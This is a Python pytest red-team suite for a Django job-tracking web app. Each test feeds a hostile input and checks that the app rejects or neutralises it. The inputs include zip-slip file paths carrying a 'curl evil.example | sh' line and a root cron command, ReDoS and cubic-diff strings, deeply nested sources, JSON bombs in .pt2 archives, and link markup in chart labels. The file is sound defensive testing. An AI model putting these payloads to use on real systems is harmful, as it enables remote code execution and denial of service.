"""Red team of the web process (webapp/, templates/): one test per finding, named for the attack.

Every upload, trajectory, file name and kernel is hostile text (docs/security.md). These tests
drive the real views through Django's test client on the real test database and Redis (the
cache); nothing of the project's own is mocked.
"""

from __future__ import annotations

import base64
import html
import io
import json
import posixpath
import re
import time
import zipfile

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from webapp.jobs.diffview import file_diff
from webapp.jobs.highlight import highlight_lines, plain_lines
from webapp.jobs.models import ApiToken, Artifact, Job
from webapp.jobs.sample_trajectory import SOFTMAX_TASK, build

pytestmark = pytest.mark.django_db


@pytest.fixture
def attacker():
    return User.objects.create_user("mallory", password="pw-mallory-123")


@pytest.fixture
def client(attacker) -> Client:
    c = Client(raise_request_exception=False)  # a view that raises answers 500, as in production
    c.force_login(attacker)
    return c


@pytest.fixture
def api(attacker) -> Client:
    _, key = ApiToken.issue(attacker, "redteam")
    return Client(raise_request_exception=False, headers={"authorization": f"Token {key}"})


def import_file(client: Client, data: dict):
    upload = SimpleUploadedFile("run.json", json.dumps(data).encode(), content_type="application/json")
    return client.post("/jobs/import/", {"file": upload})


# -- zip slip ----------------------------------------------------------------------------------------
def test_zip_slip_through_imported_best_file_paths(client, attacker):
    """An imported trajectory names its best candidate's files; a run's agent refuses `..` and
    absolute paths (agent.workspace.check_path) but an import took any name, and best.zip wrote it
    verbatim: whoever unpacks the download of a shared or public job with a naive unzip writes
    outside its folder."""
    data = build(turns=1)
    hostile = {
        "../../../.bashrc": "curl evil.example | sh\n",
        "/etc/cron.d/kernelwright": "* * * * * root sh -c 'id > /tmp/pwned'\n",
        "kernels/..\\..\\win.cpp": "// backslashes\n",
    }
    for e in data["events"]:
        if e["type"] == "best_changed":
            e["files"] = {**e["files"], **hostile}
    resp = import_file(client, data)
    assert resp.status_code == 400 and b"not a valid trajectory" in resp.content
    assert not Job.objects.filter(owner=attacker).exists()
    # rows stored before the importer checked names: the zip leaves them out
    data = build(turns=1)
    assert import_file(client, data).status_code == 302
    job = Job.objects.get(owner=attacker)
    for path, content in hostile.items():
        Artifact.objects.create(job=job, path=path, content=content, version=job.best_version)
    resp = client.get(f"/jobs/{job.pk}/download/best.zip")
    assert resp.status_code == 200
    folder = f"kernelwright-job{job.pk}/"
    names = zipfile.ZipFile(io.BytesIO(resp.content)).namelist()
    assert f"{folder}model_new.py" in names
    for name in names:
        assert name.startswith(folder) and posixpath.normpath(name) == name, name
        assert ".." not in name.split("/") and "\\" not in name, name


# -- ReDoS in the syntax highlighter ----------------------------------------------------------------
def test_redos_raw_string_kernel_stalls_the_web_process(client, attacker):
    """Pygments' C++/CUDA lexer tries a raw-string literal (`R"(`...`)"`) at every `R"(` and
    scans to the end of the text each time: quadratic. A 100 KB kernel of `R"(` (well under
    MAX_HIGHLIGHT_CHARS) took tens of seconds of a web thread to render once; an import of many
    such turns (20 MiB allowed) renders them all in the request, and the compare page diffs
    any two turns on demand."""
    kernel = 'R"(' * 33_000
    data = build(turns=1)
    for e in data["events"]:
        if e["type"] == "tool_call" and e["name"] == "write_file":
            e["arguments"] = {"path": "kernels/k.cu", "content": kernel}
        if e["type"] == "file_edit":
            e["path"], e["content"], e["diff"] = "kernels/k.cu", kernel, ""
    assert import_file(client, data).status_code == 302
    job = Job.objects.get(owner=attacker)
    resp = client.get(f"/jobs/{job.pk}/")
    assert resp.status_code == 200
    assert kernel[:300] in html.unescape(re.sub(r"<[^>]*>", "", resp.content.decode()))  # still shown
    # past its lexing budget the text is shown plain (a check of the path taken, not of a time)
    assert highlight_lines(kernel, "cuda") == plain_lines(kernel)
    assert highlight_lines("__global__ void k() {}", "cuda") != plain_lines("__global__ void k() {}")


# -- a diff that is cubic ----------------------------------------------------------------------------
def test_cubic_diff_of_repetitive_lines_stalls_the_web_process(client, attacker):
    """The job page diffs each file edit against the file before it and the compare page any two
    turns, with difflib's SequenceMatcher (autojunk off), in the request. On lines that repeat
    (1400 lines of `x`, then `x` and `y` alternating: 5.6 KB of text) its search for the
    longest match visits every pair of equal lines again at each level of its recursion: 20 s a
    page here, cubic in the lines (5000 lines, the page's limit: tens of minutes)."""
    n = 1400
    versions = ["x\n" * n, "".join("x\n" if i % 2 else "y\n" for i in range(n))]
    data = build(turns=2)
    for e in data["events"]:
        if e["type"] == "file_edit":
            e["path"], e["content"], e["diff"] = "notes.txt", versions[e["turn"] - 1], ""
    assert import_file(client, data).status_code == 302
    job = Job.objects.get(owner=attacker)
    for url in (f"/jobs/{job.pk}/", f"/compare/?a={job.pk}&ta=1&b={job.pk}&tb=2"):
        assert client.get(url).status_code == 200
    # the matcher's work is counted, not timed: this diff is given up as too large, a real edit is not
    assert file_diff("notes.txt", versions[0], versions[1]).status == "too_large"
    code = [f"    y[{i}] = x[{i}] * w;" for i in range(1400)]
    edited = code[:700] + ["    y[700] = x[700] * w + b;"] + code[701:]
    assert file_diff("k.cu", "\n".join(code), "\n".join(edited)).status == "modified"


# -- a turn of many best candidates ---------------------------------------------------------------------
def test_turn_of_many_best_changed_events_renders_in_quadratic_time(client, attacker):
    """Each best_changed event of a turn looked for the evaluation it came from by listing the
    turn's events again and scanning back through them (jobs_extras.best_speed_parts): a turn of
    N such events cost O(N^2) to render. An imported turn of 16,000 (1 MB) took about 11 s of
    the first viewer's request; a 20 MiB import, hours."""
    data = build(turns=1)
    data["events"] = [data["events"][0]] + [
        {"type": "best_changed", "turn": 1, "version": 1, "reward": 1} for _ in range(16_000)
    ]
    assert import_file(client, data).status_code == 302
    job = Job.objects.get(owner=attacker)
    started = time.monotonic()
    resp = client.get(f"/jobs/{job.pk}/")
    assert resp.status_code == 200
    assert resp.content.decode().count("new best: version 1") == 16_000
    # a number to read (-s), not a timed assertion: 11 s before evaluations_behind, docs/benchmarks.md
    print(f"the job page of 16,000 best_changed events rendered in {time.monotonic() - started:.2f} s")


# -- an import of many turns -------------------------------------------------------------------------
def test_import_of_many_turns_costs_quadratic_time_in_the_request(client, attacker, django_capture_on_commit_callbacks):
    """Each imported turn was announced after the commit like a live run's turn, and each
    announcement builds the update since the turn before it: every later turn read from the
    database, joined and JSON-encoded again. N turns cost O(N^2) in the import request: 400
    small turns (800 KB) took 43 s; the 20 MiB an import may hold, hours of a web thread. Nobody
    watches a job that is being created."""
    data = build(turns=1)
    data["events"] = [data["events"][0]] + [
        {"type": "model_message", "turn": i, "content": "m" * 2000} for i in range(1, 301)
    ]
    with django_capture_on_commit_callbacks(execute=True) as announced:
        resp = import_file(client, data)
    assert resp.status_code == 302
    assert Job.objects.get(owner=attacker).turns.count() == 301
    # no announcement per turn (each rebuilt the update from that turn on): at most one in all
    assert len(announced) <= 1, len(announced)


# -- deeply nested uploads parsed with ast --------------------------------------------------------------
DEEP_SOURCES = {
    "unary": "x = " + "-" * 100_000 + "1\n",  # the parser's MemoryError
    "attribute chain": "x = a" + ".a" * 100_000 + "\n",  # RecursionError during ast construction
}
# ast.parse is fine with it, ast.unparse of the default (the class's signature) recurses in Python
DEEP_DEFAULT = (
    "import torch.nn as nn\n\n\nclass Block(nn.Module):\n"
    "    def __init__(self, a=" + "-" * 2000 + "1):\n        super().__init__()\n\n"
    "    def forward(self, x):\n        return x\n"
)


def test_deeply_nested_upload_crashes_the_task_check_with_500(client, api):
    """The web process parses every upload with `ast` (task_check, module_task); a source nested
    past the parser's limits raised MemoryError or RecursionError out of the view: 500s on the
    live check (no login needed), the new-job form and the API, instead of a 400 that says why."""
    for label, source in DEEP_SOURCES.items():
        resp = client.post("/jobs/check/", {"source": source})
        assert resp.status_code == 200, (label, resp.status_code)
        assert resp.json()["ok"] is False
        resp = client.post("/jobs/new/", {"source": source, "backend": "cpu", "policy": "builtin"})
        assert resp.status_code == 400, (label, resp.status_code)
        resp = api.post("/api/jobs", {"source": source}, content_type="application/json")
        assert resp.status_code == 400, (label, resp.status_code)
        resp = api.post(
            "/api/evaluate", {"task": source, "files": {"model_new.py": "x = 1\n"}}, content_type="application/json"
        )
        assert resp.status_code == 400, (label, resp.status_code)
    resp = client.post("/jobs/check/", {"source": DEEP_DEFAULT, "module_class": "Block", "input_specs": "float32[2]"})
    assert resp.status_code == 200 and resp.json()["ok"] is False, resp.status_code
    resp = client.post(
        "/jobs/new/",
        {"source": DEEP_DEFAULT, "module_class": "Block", "input_specs": "float32[2]", "backend": "cpu"},
    )
    assert resp.status_code == 400, resp.status_code
    resp = api.post(
        "/api/jobs",
        {"source": DEEP_DEFAULT, "module": {"class": "Block", "inputs": ["float32[2]"]}},
        content_type="application/json",
    )
    assert resp.status_code == 400, resp.status_code
    # a .pt2 whose graph JSON is nested past json.loads' limit (read here, never loaded)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("m/archive_format", "pt2")
        zf.writestr("m/models/model.json", "[" * 100_000 + "]" * 100_000)
    pt2 = buf.getvalue()
    resp = client.post("/jobs/check/", {"file": SimpleUploadedFile("deep.pt2", pt2)})
    assert resp.status_code == 200 and resp.json()["ok"] is False, resp.status_code
    resp = client.post("/jobs/new/", {"file": SimpleUploadedFile("deep.pt2", pt2), "backend": "cpu"})
    assert resp.status_code == 400, resp.status_code
    resp = api.post("/api/jobs", {"exported_program": base64.b64encode(pt2).decode()}, content_type="application/json")
    assert resp.status_code == 400, resp.status_code
    assert not Job.objects.exists()


# -- deeply nested JSON bodies ------------------------------------------------------------------------
def test_deeply_nested_json_body_crashes_the_api_with_500(client, api):
    """json.loads raises RecursionError (not a JSONDecodeError) on a body nested past the
    interpreter's limit: 500s from every JSON endpoint and from the trajectory import."""
    deep = '{"task": ' + "[" * 100_000 + "]" * 100_000 + "}"
    for path in ("/api/jobs", "/api/evaluate", "/api/evaluations"):
        resp = api.post(path, deep, content_type="application/json")
        assert resp.status_code == 400, (path, resp.status_code)
        assert "error" in resp.json()
    upload = SimpleUploadedFile("run.json", deep.encode(), content_type="application/json")
    resp = client.post("/jobs/import/", {"file": upload})
    assert resp.status_code == 400, resp.status_code
    # shallow enough for json.loads, deep enough for the copies the import makes of each event
    data = build(turns=1)
    for e in data["events"]:
        if e["type"] == "tool_call":
            e["arguments"] = {"x": json.loads("[" * 500 + "]" * 500)}
    assert import_file(client, data).status_code == 400
    assert not Job.objects.exists()


# -- markup in the charts ------------------------------------------------------------------------------
LINK = '<a href="https://evil.example/login">x</a>'


def test_markup_injection_in_plotly_chart_labels(client, attacker):
    """plotly.js renders a subset of HTML in every label (<a href> to any http(s) URL, <span
    style>, <br>, ...): a kernel's name from the profiler, the device and the clock reached the
    charts as markup, so a shared or public job page showed the uploader's links in its charts
    (the baselines chart already made the sandbox's verdict plain text; the rest was not)."""
    data = build(turns=5)
    for e in data["events"]:
        if e["type"] == "profile":
            for row in e["rows"]:
                row["name"] = LINK
            e["roofline"]["device"] = LINK
            e["roofline"]["bound"] = LINK
        if e["type"] == "evaluation":
            e["result"]["timing"]["clock"] = LINK
            for row in e["result"].get("profile") or []:
                row["name"] = LINK
            if e["result"].get("roofline"):
                e["result"]["roofline"]["device"] = LINK
    assert import_file(client, data).status_code == 302
    job = Job.objects.get(owner=attacker)
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    config = json.loads(re.search(r'<script id="job-config" type="application/json">(.*?)</script>', page, re.S)[1])
    charts = config["charts"]
    assert {"kernels", "roofline", "baselines"} <= set(charts)

    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict):
            for v in value.values():
                yield from strings(v)
        elif isinstance(value, list):
            for v in value:
                yield from strings(v)

    tagged = [s for s in strings(charts) if re.search(r"<\s*/?\s*a\b", s, re.I)]
    assert not tagged, tagged
    assert "evil.example" in json.dumps(charts["kernels"]["data"][0]["y"])  # the name is still shown, as text


def test_sample_task_is_still_accepted(client):
    """Control for the fixes above: an ordinary task still passes the check and starts a job."""
    resp = client.post("/jobs/check/", {"source": SOFTMAX_TASK})
    assert resp.status_code == 200 and resp.json()["ok"] is True


def test_a_turn_number_python_cannot_read_is_no_server_error(client, attacker):
    """`"²".isdigit()` is true and int("²") raises; so does int() of 5,000 digits: the compare
    page answered 500. A turn it cannot read is no turn (the job's best is shown)."""
    assert import_file(client, build(turns=2)).status_code == 302
    job = Job.objects.get(owner=attacker)
    for turn in ("²", "9" * 5000, "1"):
        resp = client.get(f"/compare/?a={job.pk}&ta={turn}&b={job.pk}&tb=2")
        assert resp.status_code == 200, (turn[:5], resp.status_code)


def _pt2_with_graph(graph_json: bytes) -> bytes:
    """A .pt2's zip layout (torch.export.save) around the given graph JSON, compressed hard."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("archive/archive_format", "pt2")
        z.writestr("archive/models/model.json", graph_json)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("graph_json", "refused_for"),
    [
        (b"[" + b"{}," * 1_398_000 + b"{}]", "JSON objects and lists"),  # 4 MiB of empty objects
        (b"[" + b"[]," * 1_000_000 + b"[]]", "JSON objects and lists"),
        (b'["' + b"ab" * 2_000_000 + b'"]', "not in a form this version can read"),  # one long string
        (b"[" + b'"ab",' * 838_000 + b'"ab"]', "not in a form this version can read"),  # strings: 10x in Python
        (b"[" + b"1.5," * 1_048_000 + b"1.5]", "not in a form this version can read"),  # floats: 8x
        (b"[" + b"{}," * 9_000_000 + b"{}]", "bytes uncompressed; the limit is"),  # 27 MB of JSON, 26 KB zipped
    ],
    ids=["objects", "lists", "long-string", "strings", "floats", "oversized"],
)
def test_a_pt2_graph_json_bomb_on_the_task_check_without_login(graph_json, refused_for):
    """The graph JSON of a .pt2 is parsed in the web process on /jobs/check/, which needs no
    login: 16 MiB of `{}` (16 KB zipped) made it allocate about 400 MB. Now the JSON is at most
    4 MiB and 200,000 objects and lists, and no hostile layout of it costs more than 80 MB."""
    import tracemalloc

    from agent.exported_task import MAX_EXPORTED_BYTES, read_exported
    from agent.module_task import SpecError

    data = _pt2_with_graph(graph_json)
    assert len(data) < MAX_EXPORTED_BYTES  # it passes the file's own size check
    tracemalloc.start()
    try:
        with pytest.raises(SpecError, match=re.escape(refused_for)):
            read_exported(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 80 * 2**20, f"{peak / 2**20:.0f} MB"

    check = Client().post("/jobs/check/", {"file": SimpleUploadedFile("m.pt2", data)}).json()
    assert check["ok"] is False and refused_for in check["errors"][0], check
